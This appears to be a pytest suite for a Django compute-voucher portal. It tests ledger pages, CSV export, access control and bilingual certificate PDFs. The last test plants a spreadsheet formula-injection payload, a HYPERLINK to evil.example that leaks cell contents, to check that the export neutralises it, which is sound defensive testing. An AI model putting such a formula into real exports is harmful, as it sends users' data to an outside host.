"""The enterprise's voucher pages, the ledger CSV and the certificate PDF."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import Membership, User
from audit.models import AuditEvent
from tests.accounts.factories import ComputePlatformFactory, DistrictFactory, EnterpriseFactory
from tests.programs.factories import ProgramFactory, add_steps, bind
from tests.vouchers.factories import issue, official, platform_actor
from vouchers.models import Voucher
from vouchers.services import hold_create, voucher_redeem

pytestmark = pytest.mark.django_db


@pytest.fixture
def voucher() -> Voucher:
    platform = ComputePlatformFactory(
        name="武汉人工智能计算中心", name_en="Wuhan AI Computing Center"
    )
    program = ProgramFactory(name="2026年江汉区算力券", name_en="Jianghan Compute Vouchers 2026")
    import datetime

    add_steps(program, (datetime.date(2030, 1, 1), "0.20"), (datetime.date(2031, 1, 1), "0"))
    bind(program, platform)
    enterprise = EnterpriseFactory(name="武汉汉江智算科技有限公司")
    voucher = issue(program, enterprise, amount="50000")
    actor = platform_actor(platform)
    for i in range(3):
        voucher_redeem(
            actor=actor,
            platform=platform,
            voucher_code=voucher.code,
            reference=f"inv-{i}",
            occurred_at=timezone.now(),
            billed_amount=Decimal("1000.00"),
        )
    hold_create(
        actor=actor,
        platform=platform,
        voucher_code=voucher.code,
        reference="job-9",
        amount=Decimal("2000"),
    )
    voucher.refresh_from_db()
    return voucher


def member_client(enterprise, role=Membership.Role.ENTERPRISE_MEMBER) -> Client:
    user = User.objects.create_user(f"m{enterprise.pk}-{role}@example.com", None)
    Membership.objects.create(user=user, role=role, enterprise=enterprise)
    return login(user)


BACKEND = "allauth.account.auth_backends.AuthenticationBackend"


def login(user: User) -> Client:
    client = Client()
    client.force_login(user, backend=BACKEND)
    return client


def test_my_vouchers_lists_balance_held_and_the_rate_in_force(voucher) -> None:
    client = member_client(voucher.enterprise)
    html = client.get(reverse("voucher_list")).content.decode()
    assert voucher.code in html
    assert "¥47,100.00" in html  # 50,000 − 3 × 300 − 2,000 held
    assert "¥2,000.00" in html
    assert "30%" in html
    assert "1 Jan 2030" in html  # the coming step


def test_the_voucher_page_shows_the_full_ledger(voucher) -> None:
    client = member_client(voucher.enterprise)
    response = client.get(reverse("voucher_detail", args=[voucher.pk]))
    html = response.content.decode()
    assert response.status_code == 200
    for reference in ("inv-0", "inv-1", "inv-2", "job-9"):
        assert reference in html
    assert html.count("<tr>") == 1 + 5  # header + issue, 3 charges, 1 hold


def test_the_ledger_filters_by_kind(voucher) -> None:
    client = member_client(voucher.enterprise)
    html = client.get(
        reverse("voucher_detail", args=[voucher.pk]), {"kind": "hold"}
    ).content.decode()
    assert "job-9" in html and "inv-0" not in html


def test_a_reversed_date_range_is_explained_next_to_the_field(voucher) -> None:
    client = member_client(voucher.enterprise)
    html = client.get(
        reverse("voucher_detail", args=[voucher.pk]),
        {"date_from": "2026-06-02", "date_to": "2026-06-01"},
    ).content.decode()
    assert "The end date comes before the start date." in html
    assert 'value="2026-06-02"' in html  # nothing typed is lost


def test_the_ledger_exports_as_csv_and_the_export_is_audited(voucher) -> None:
    client = member_client(voucher.enterprise)
    response = client.get(reverse("voucher_ledger_csv", args=[voucher.pk]), {"kind": "capture"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["time", "kind", "amount"]
    assert [r[1] for r in rows[1:]] == ["capture"] * 3
    assert {r[9] for r in rows[1:]} == {"inv-0", "inv-1", "inv-2"}
    assert AuditEvent.objects.filter(event_type="ledger.exported").count() == 1


def test_the_ledger_csv_and_the_certificate_are_never_kept_by_a_cache(voucher) -> None:
    client = member_client(voucher.enterprise)
    for name in ("voucher_ledger_csv", "voucher_certificate"):
        response = client.get(reverse(name, args=[voucher.pk]))
        assert response.status_code == 200
        directives = {d.strip() for d in response["Cache-Control"].split(",")}
        assert {"no-store", "private"} <= directives, (name, response["Cache-Control"])


def test_another_enterprise_sees_neither_the_voucher_nor_its_ledger_nor_its_pdf(voucher) -> None:
    client = member_client(EnterpriseFactory())
    assert voucher.code not in client.get(reverse("voucher_list")).content.decode()
    for name in ("voucher_detail", "voucher_ledger_csv", "voucher_certificate"):
        assert client.get(reverse(name, args=[voucher.pk])).status_code == 404


def test_an_official_of_another_district_sees_nothing(voucher) -> None:
    from allauth.mfa.models import Authenticator

    user = official(DistrictFactory(code="520100", name="贵阳市"), Membership.Role.PROGRAM_MANAGER)
    Authenticator.objects.create(user=user, type=Authenticator.Type.TOTP, data={"secret": "x"})
    client = login(user)
    assert client.get(reverse("voucher_detail", args=[voucher.pk])).status_code == 404


def test_anonymous_visitors_are_sent_to_sign_in(voucher) -> None:
    response = Client().get(reverse("voucher_detail", args=[voucher.pk]))
    assert response.status_code == 302
    assert "login" in response["Location"]


def _pdf_text(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "certificate.pdf"
    path.write_bytes(pdf)
    pdftotext = shutil.which("pdftotext") or "pdftotext"
    return subprocess.run(  # noqa: S603 (a fixed local tool on a file we wrote)
        [pdftotext, "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
def test_the_certificate_renders_chinese_text(voucher, tmp_path) -> None:
    client = member_client(voucher.enterprise)
    response = client.get(reverse("voucher_certificate", args=[voucher.pk]), {"lang": "zh-hans"})
    assert response["Content-Type"] == "application/pdf"
    text = _pdf_text(response.content, tmp_path)
    for expected in (
        "武汉汉江智算科技有限公司",
        "2026年江汉区算力券",
        "江汉区",
        "武汉人工智能计算中心",
        voucher.code,
        "¥50,000.00",
    ):
        assert expected in text, expected


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
def test_the_certificate_renders_in_english_too(voucher, tmp_path) -> None:
    client = member_client(voucher.enterprise)
    response = client.get(reverse("voucher_certificate", args=[voucher.pk]), {"lang": "en"})
    text = _pdf_text(response.content, tmp_path)
    assert "Jianghan Compute Vouchers 2026" in text
    assert "武汉汉江智算科技有限公司" in text  # the holder's registered name stays Chinese
    assert "not cash" in text


def test_the_certificate_carries_a_qr_code_of_the_code(voucher) -> None:
    from vouchers.certificate import qr_data_uri

    uri = qr_data_uri(voucher.code)
    assert uri.startswith("data:image/svg+xml;base64,")


def test_an_official_of_the_district_reads_the_same_page_and_csv(voucher) -> None:
    from allauth.mfa.models import Authenticator

    user = official(voucher.program.district, Membership.Role.AUDITOR)
    Authenticator.objects.create(user=user, type=Authenticator.Type.TOTP, data={"secret": "x"})
    client = login(user)
    assert voucher.code in client.get(reverse("voucher_detail", args=[voucher.pk])).content.decode()
    assert client.get(reverse("voucher_ledger_csv", args=[voucher.pk])).status_code == 200


def test_a_platform_reference_that_is_a_formula_reaches_the_ledger_csv_as_text(voucher) -> None:
    platform = ComputePlatformFactory()
    bind(voucher.program, platform)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    voucher_redeem(
        actor=platform_actor(platform),
        platform=platform,
        voucher_code=voucher.code,
        reference=formula,
        occurred_at=timezone.now(),
        billed_amount=Decimal("100.00"),
    )
    client = member_client(voucher.enterprise)
    response = client.get(reverse("voucher_ledger_csv", args=[voucher.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + formula in {r[9] for r in rows[1:]}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    # Genuine numbers stay numbers, negative ones included (a capture lowers the balance).
    assert any(r[3].startswith("-") and r[3][1:2].isdigit() for r in rows[1:])
